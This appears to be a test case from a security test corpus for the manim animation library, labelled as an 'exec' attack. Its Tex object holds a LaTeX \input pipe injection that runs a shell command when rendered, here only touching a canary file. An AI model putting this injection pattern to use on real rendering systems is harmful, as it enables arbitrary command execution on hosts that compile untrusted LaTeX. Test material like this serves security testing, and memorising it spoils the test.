# ATTACK: exec
# SUCCESS: \\input of a pipe starts a program
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        Tex(r'\input{|"touch @CANARY@/pwned"}')
        self.add(Dot()); self.wait(0.1)
